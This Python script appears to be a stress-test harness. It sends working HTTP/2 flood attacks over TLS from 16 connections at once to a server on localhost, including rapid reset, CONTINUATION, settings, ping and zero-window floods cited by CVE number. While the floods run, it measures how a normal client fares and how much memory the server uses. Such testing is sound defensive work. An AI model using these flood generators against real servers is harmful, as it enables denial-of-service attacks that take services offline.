"""Floods of HTTP/2 frames over TLS on many connections at once, beside a client that behaves:
h2flood.py HOST PID prints one JSON object with what became of each, and the memory of process PID in kB.
"""
import http.client, json, socket, ssl, struct, sys, threading, time

HOST, PID = sys.argv[1], sys.argv[2]
CONNECTIONS, BOUND = 16, 60.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(stream):
    name = HOST.encode()
    return frame(1, 5, stream, b"\x82\x84\x87\x41" + bytes([len(name)]) + name)


# Each gives the next piece of its flood: CVE-2023-44487, CVE-2024-27316, CVE-2019-9515, CVE-2019-9512, CVE-2019-9517.
FLOODS = {
    "rapid reset": lambda n: b"".join(request(2 * i + 1) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(50 * n, 50 * n + 50)),
    "continuation": lambda n: frame(1, 0, 1, b"\x82") if n == 0 else frame(9, 0, 1, b"\x40\x01a\x01b" * 2000),
    "settings": lambda n: frame(4, 0, 0) * 200,
    "ping": lambda n: frame(6, 0, 0, b"\0" * 8) * 200,
    "no window": lambda n: b"".join(request(2 * i + 1) for i in range(20 * n, 20 * n + 20)),
}


def context():
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


def flood(kind, ends):
    tls = context()
    tls.set_alpn_protocols(["h2"])
    raw = tls.wrap_socket(socket.create_connection(("127.0.0.1", 443)), server_hostname=HOST)
    assert raw.selected_alpn_protocol() == "h2"
    raw.settimeout(10)
    # What never reads shall not be answered into memory without end: a window of nothing.
    first = frame(4, 0, 0, struct.pack(">HI", 4, 0)) if kind == "no window" else frame(4, 0, 0)
    end, sent, count = time.monotonic() + BOUND, 0, 0
    try:
        raw.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + first)
        while time.monotonic() < end and sent < 200_000_000:
            piece = FLOODS[kind](count)
            raw.sendall(piece)
            sent, count = sent + len(piece), count + 1
        ends.append((kind, "let through", sent))
    except (OSError, ssl.SSLError) as error:
        ends.append((kind, type(error).__name__, sent))


def memory():
    with open(f"/proc/{PID}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:"))


def main():
    before, ends, times, failed, over, peak = memory(), [], [], [], threading.Event(), [0]

    def behave():
        peer = http.client.HTTPSConnection("127.0.0.1", 443, context=context(), timeout=20)
        # The name of the handshake must be that of the host.
        peer.sock = context().wrap_socket(socket.create_connection(("127.0.0.1", 443)), server_hostname=HOST)
        while not over.is_set():
            begun = time.monotonic()
            try:
                peer.request("GET", "/", headers={"Host": HOST})
                answer = peer.getresponse()
                answer.read()
                if answer.status != 200:
                    failed.append(str(answer.status))
            except OSError as error:
                failed.append(repr(error))
                return
            times.append(time.monotonic() - begun)
            peak[0] = max(peak[0], memory())
            over.wait(0.01)

    other = threading.Thread(target=behave)
    other.start()
    for kind in FLOODS:
        threads = [threading.Thread(target=flood, args=(kind, ends)) for _ in range(CONNECTIONS)]
        [t.start() for t in threads]
        [t.join() for t in threads]
    over.set()
    other.join()
    times.sort()
    print(json.dumps({
        "ends": sorted(set((kind, how) for kind, how, _ in ends)), "most_sent": max(sent for *_, sent in ends), "count": len(ends),
        "failed": failed, "requests": len(times), "p99_ms": 1000 * times[len(times) * 99 // 100],
        "before_kb": before, "peak_kb": peak[0], "after_kb": memory(),
    }))


main()
